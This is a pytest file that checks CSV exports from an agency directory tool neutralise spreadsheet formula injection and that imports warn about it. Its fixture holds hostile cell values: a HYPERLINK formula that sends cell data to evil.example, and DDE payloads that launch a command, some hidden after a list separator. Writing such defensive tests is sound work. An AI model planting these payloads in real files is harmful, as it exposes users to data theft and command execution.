"""Spreadsheet formula injection: CSV exports neutralise formula-like texts, imports warn and read them back."""

from __future__ import annotations

import csv
import io
import re

import pytest
from click.testing import CliRunner
from csv_rows import write_csv

from cli import main
from core import files as _files
from core import settings
from directory import io as directory_io
from directory.io import default_dir

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "Rumah Aman;=cmd|' /C calc'!A0",
    "Rumah Aman ; @SUM(1+1)*cmd|' /C calc'!A0",
    "Rumah Aman, +cmd|' /C calc'!A0",
)
"""Names and notes of the hostile agencies (a leading tab or carriage return is stripped by every import); the
last ones hide the formula after a list separator (``;`` in Indonesian Excel)."""


def _inert_in_every_locale(cell: str) -> bool:
    """Return True if no part of `cell` that a spreadsheet may start a cell with is an unquoted formula.

    A spreadsheet splits at its list separator (``,`` in English, ``;`` in Indonesian) and at line breaks; every
    part, spaces stripped, must not start with a formula character unless a ``'`` stands before it.
    """
    parts = re.split(r"[;,\t\n\r]", cell)
    return not cell.startswith(("=", "+", "-", "@")) and all(
        not p.lstrip().startswith(("=", "+", "-", "@")) for p in parts
    )


def _sample(name: str) -> list[dict[str, str]]:
    with (default_dir() / f"{name}.csv").open(encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


@pytest.fixture
def hostile(engine, tmp_path):
    """A database of eight sample agencies and one agreement whose names start like formulas.

    The agencies are the first sample rows with no formula-like text of their own (coordinates are numbers).
    """
    inert = [
        row
        for row in _sample("agencies")
        if not any(_files.formula_like(v) for k, v in row.items() if k not in ("name", "notes", "lon", "lat"))
    ]
    pairs = zip(inert, FORMULAS, strict=False)
    rows = [{**row, "name": formula, "notes": formula} for row, formula in pairs]
    assert len(rows) == len(FORMULAS) and any(row["lat"].startswith("-") for row in rows)  # a southern point read
    counts = directory_io.import_agencies(engine, write_csv(tmp_path / "agencies.csv", rows))
    agreement = {**_sample("agreements")[0], "title": FORMULAS[0]}
    directory_io.import_agreements(engine, write_csv(tmp_path / "agreements.csv", [agreement]))
    return engine, rows, counts


def _read(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("public", [True, False])
def test_csv_export_neutralises_formula_cells(hostile, public):
    engine, rows, _ = hostile
    exported = {row["id"]: row for row in _read(directory_io.export_agencies(engine, fmt="csv", public=public))}
    for row in rows:
        cells = exported[row["id"]]
        if cells["notes"]:  # a confidential agency's notes are not in the public export
            assert _inert_in_every_locale(cells["notes"]) and cells["notes"] != row["notes"]
        assert _inert_in_every_locale(cells["name"]) and _files.restored(cells["name"]) == row["name"]
        assert float(cells["lon"]) and float(cells["lat"])  # numbers untouched: no quote
    assert any(cells["lat"].startswith("-") for cells in exported.values())  # southern points keep their sign
    agreements = _read(directory_io.export_agreements(engine, fmt="csv"))
    assert agreements[0]["title"] == "'" + FORMULAS[0]
    assert [_files.neutralised(text) for text in ("\tx", "\rx", "x=1", "")] == ["'\tx", "'\rx", "x=1", ""]


def test_import_warns_about_formula_cells(hostile, tmp_path, monkeypatch):
    engine, rows, counts = hostile
    warned = {(w.row, w.field, w.value) for w in counts["warnings"]}
    assert {(n, "name", row["name"]) for n, row in enumerate(rows, start=1)} <= warned
    assert not any(w.field in ("lon", "lat", "phone") for w in counts["warnings"])  # numbers and phone numbers
    assert counts["added"] == len(rows)  # a warning rejects nothing

    monkeypatch.setattr(settings, "database_url", engine.url.render_as_string(hide_password=False))
    path = write_csv(tmp_path / "again.csv", [{**rows[0], "phone": "+62 380 123"}])
    answer = CliRunner().invoke(main, ["agencies", "import", str(path)], catch_exceptions=False)
    assert answer.exit_code == 0 and "updated: 1" in answer.stdout
    assert f"row 1: `name` was {rows[0]['name']!r}" in answer.stderr and "+62 380 123" not in answer.stderr


@pytest.mark.parametrize(
    ("text", "warned"),
    [
        ("+852 6894 2799; +852 6773 0466", False),  # KJRI Hong Kong's two lines: each a number after a split too
        ("+62 21 2924 4800, -10.18", False),
        ("+62 380 123; =cmd|' /C calc'!A0", True),
        ("+62 380 123, @SUM(1+1)", True),
        ("0800-1000 (toll-free); +62 21 2924 4800", True),  # words before the split: a person should look
    ],
)
def test_a_list_of_phone_numbers_is_no_formula_but_a_formula_after_one_is(text, warned):
    assert bool(_files.formula_warnings([{"phone": text}])) is warned


def test_full_export_reimports_formula_like_names_unchanged(hostile, tmp_path):
    engine, rows, _ = hostile
    before = directory_io.export_agencies(engine, fmt="csv", public=False, include_retired=True)
    path = tmp_path / "full.csv"
    path.write_text(before, encoding="utf-8")
    counts = directory_io.import_agencies(engine, path)
    assert counts["warnings"] == []  # our own neutralised cells are not formulas
    frame = directory_io.directory.agencies_frame(engine).set_index("id")
    for row in rows:
        assert (frame.loc[row["id"], "name"], frame.loc[row["id"], "notes"]) == (row["name"], row["notes"])
    assert directory_io.export_agencies(engine, fmt="csv", public=False, include_retired=True) == before


def test_a_formula_after_a_semicolon_is_neutralised(hostile):
    engine, rows, _ = hostile
    text = directory_io.export_agencies(engine, fmt="csv", public=False)
    exported = {row["id"]: row for row in _read(text)}
    texts = [cell for row in exported.values() for key, cell in row.items() if key not in ("lon", "lat")]
    assert [cell for cell in texts if _files.formula_like(cell) and not cell.startswith("'")] == []
    assert "\"Rumah Aman;'=cmd" in text  # quoted whole, and the formula after the ; quoted too
    for row in rows[5:]:
        assert _inert_in_every_locale(exported[row["id"]]["name"])
    header, first = text.splitlines()[:2]
    assert header.startswith('"id","name",') and first.startswith('"')  # every text cell is quoted
    first_row = next(iter(exported.values()))
    assert f",{first_row['lon']},{first_row['lat']}," in first  # numbers are not
    for tricky in ("'=1", "''+1", "'Rumah;=x", "'", "Senin-Jumat 08.00", "a;\n-1", "Jl. Merdeka, 5"):
        assert _files.restored(_files.neutralised(tricky)) == tricky
    assert _files.neutralised("Senin-Jumat 08.00") == "Senin-Jumat 08.00"
